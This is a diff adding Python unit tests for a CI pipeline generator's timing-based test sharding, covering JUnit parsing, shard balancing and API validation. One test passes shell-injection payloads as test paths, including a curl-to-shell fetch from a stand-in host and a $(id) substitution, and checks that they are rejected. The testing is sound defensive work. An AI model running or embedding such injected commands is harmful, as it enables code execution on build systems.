@@ -0,0 +1,171 @@
+#!/usr/bin/env python3
+"""
+Unit tests for timing-based test sharding
+"""
+
+import io
+import unittest
+import sys
+import os
+from unittest import mock
+
+import yaml
+
+# Add src to path
+sys.path.append(os.path.join(os.path.dirname(__file__), '..', '..', 'src'))
+
+import devops_platform
+from devops_platform import CICDPipelineEngine
+from shard_planner import durations_from_junit, plan_shards
+
+JUNIT_XML = '''<?xml version="1.0" encoding="utf-8"?>
+<testsuites>
+  <testsuite name="pytest" tests="4">
+    <testcase classname="tests.unit.test_api.TestApi" name="test_get" time="12.5"/>
+    <testcase classname="tests.unit.test_api.TestApi" name="test_post" time="7.5"/>
+    <testcase classname="tests.unit.test_models" name="test_save" time="3.0"/>
+    <testcase classname="TestSlow" file="tests/test_slow.py" name="test_all" time="30"/>
+  </testsuite>
+</testsuites>
+'''
+
+
+class TestShardPlanning(unittest.TestCase):
+    """Test cases for JUnit durations and shard bin-packing"""
+
+    def test_durations_are_summed_per_file(self):
+        """Test testcases map to their files through classname or file"""
+        durations = durations_from_junit([io.BytesIO(JUNIT_XML.encode())])
+
+        self.assertEqual(durations, {
+            'tests/unit/test_api.py': 20.0,
+            'tests/unit/test_models.py': 3.0,
+            'tests/test_slow.py': 30.0
+        })
+
+    def test_longest_files_are_spread_across_shards(self):
+        """Test bin-packing balances shards by duration"""
+        durations = {'a.py': 8, 'b.py': 7, 'c.py': 6, 'd.py': 5, 'e.py': 4}
+        shards = plan_shards(sorted(durations), 2, durations)
+
+        self.assertEqual([shard['estimated_seconds'] for shard in shards], [17, 13])
+        self.assertEqual(shards[0]['files'], ['a.py', 'd.py', 'e.py'])
+
+    def test_no_history_splits_evenly_by_file(self):
+        """Test files without durations are split evenly and deterministically"""
+        files = [f"tests/test_{i}.py" for i in range(7)]
+        shards = plan_shards(files, 3)
+
+        self.assertEqual(sorted(len(shard['files']) for shard in shards), [2, 2, 3])
+        self.assertEqual(shards, plan_shards(list(reversed(files)), 3))
+        self.assertEqual(len(plan_shards(files[:2], 3)), 2)
+        with self.assertRaises(ValueError):
+            plan_shards(files, 0)
+
+
+class TestShardedPipelines(unittest.TestCase):
+    """Test cases for sharded Test stages in the generated configs"""
+
+    def setUp(self):
+        self.engine = CICDPipelineEngine()
+        self.durations = durations_from_junit([io.BytesIO(JUNIT_XML.encode())])
+
+    def test_single_shard_keeps_serial_test_stage(self):
+        """Test the default output has no parallel test jobs"""
+        self.assertNotIn('parallel', self.engine.create_jenkins_pipeline('app', 'repo'))
+        self.assertNotIn('parallel', self.engine.create_gitlab_ci_config('app'))
+
+    def test_gitlab_matrix_from_history(self):
+        """Test GitLab shards become a parallel matrix of file lists"""
+        config = yaml.safe_load(self.engine.create_gitlab_ci_config(
+            'app', test_shards=2, test_durations=self.durations))
+
+        self.assertEqual(config['test']['parallel']['matrix'][0]['TEST_FILES'], [
+            'tests/test_slow.py',
+            'tests/unit/test_api.py tests/unit/test_models.py'
+        ])
+        self.assertIn('$TEST_FILES', config['test']['script'][1])
+
+    def test_jenkins_parallel_branches(self):
+        """Test Jenkins shards become parallel branches with a combined report"""
+        jenkinsfile = self.engine.create_jenkins_pipeline(
+            'app', 'repo', test_shards=2, test_durations=self.durations)
+
+        self.assertIn("stage('Test shard 2')", jenkinsfile)
+        self.assertIn('pytest tests/test_slow.py --junitxml=test-results-1.xml', jenkinsfile)
+        self.assertIn("sh 'coverage combine'", jenkinsfile)
+        # Results are published per shard, so a failing shard still reports them
+        branch = jenkinsfile[jenkinsfile.index("stage('Test shard 2')"):
+                             jenkinsfile.index("stage('Coverage Report')")]
+        self.assertIn("always {\n                            junit 'test-results-2.xml'", branch)
+        self.assertNotIn("junit '", jenkinsfile[jenkinsfile.index("stage('Coverage Report')"):])
+
+    def test_unknown_files_split_at_ci_time(self):
+        """Test sharding without history splits files evenly in the job itself"""
+        gitlab = yaml.safe_load(self.engine.create_gitlab_ci_config('app', test_shards=4))
+        jenkinsfile = self.engine.create_jenkins_pipeline('app', 'repo', test_shards=4)
+
+        self.assertEqual(gitlab['test']['parallel'], 4)
+        self.assertIn('$CI_NODE_INDEX', gitlab['test']['script'][1])
+        self.assertIn("awk '(NR - 1) % 4 == 3'", jenkinsfile)
+
+    def test_endpoint_accepts_junit_report(self):
+        """Test /api/pipeline plans shards from an uploaded JUnit report"""
+        client = devops_platform.app.test_client()
+        with mock.patch.object(devops_platform, 'cicd_engine', self.engine):
+            response = client.post('/api/pipeline', json={
+                'app_name': 'app', 'type': 'gitlab', 'test_shards': 2, 'junit_xml': JUNIT_XML
+            })
+            invalid = client.post('/api/pipeline', json={'app_name': 'app', 'test_shards': 0})
+
+        self.assertIn('TEST_FILES', response.get_json()['config'])
+        self.assertEqual(invalid.status_code, 400)
+
+    def test_shard_count_is_capped(self):
+        """Test shard counts beyond what GitLab's parallel accepts are a 400"""
+        max_shards = CICDPipelineEngine.MAX_TEST_SHARDS
+        gitlab = yaml.safe_load(self.engine.create_gitlab_ci_config('app', test_shards=max_shards))
+        self.assertEqual(gitlab['test']['parallel'], max_shards)
+        with self.assertRaises(ValueError):
+            self.engine.create_jenkins_pipeline('app', 'repo', test_shards=max_shards + 1)
+
+        client = devops_platform.app.test_client()
+        with mock.patch.object(devops_platform, 'cicd_engine', self.engine):
+            response = client.post('/api/pipeline', json={'app_name': 'app', 'test_shards': 100000})
+        self.assertEqual(response.status_code, 400)
+        self.assertEqual(len(self.engine.render_cache), 1)
+
+    def test_malformed_generator_options_are_rejected(self):
+        """Test options of the wrong type are a 400 rather than a server error"""
+        client = devops_platform.app.test_client()
+        with mock.patch.object(devops_platform, 'cicd_engine', self.engine):
+            responses = [client.post('/api/pipeline', json=dict({'app_name': 'app'}, **options))
+                         for options in ({'test_shards': 2, 'junit_xml': {'xml': JUNIT_XML}},
+                                         {'test_shards': 2, 'test_durations': ['tests/a.py']},
+                                         {'test_shards': [2]})]
+
+        self.assertEqual([response.status_code for response in responses], [400, 400, 400])
+        self.assertIn('junit_xml', responses[0].get_json()['error'])
+
+    def test_unsafe_test_paths_are_rejected(self):
+        """Test paths that could break out of the shell step are a 400"""
+        client = devops_platform.app.test_client()
+        with mock.patch.object(devops_platform, 'cicd_engine', self.engine):
+            injected = client.post('/api/pipeline', json={
+                'app_name': 'app', 'test_shards': 2,
+                'test_files': ["tests/test_a.py", "tests/x.py'''; curl evil.sh | sh; '''"]
+            })
+            not_a_list = client.post('/api/pipeline', json={
+                'app_name': 'app', 'test_shards': 2, 'test_files': 'tests/test_a.py'
+            })
+
+        self.assertEqual(injected.status_code, 400)
+        self.assertIn('Invalid test file path', injected.get_json()['error'])
+        self.assertEqual(not_a_list.status_code, 400)
+        with self.assertRaises(ValueError):
+            self.engine.create_jenkins_pipeline(
+                'app', 'repo', test_shards=2, test_durations={'tests/$(id).py': 1.0})
+
+
+if __name__ == '__main__':
+    unittest.main()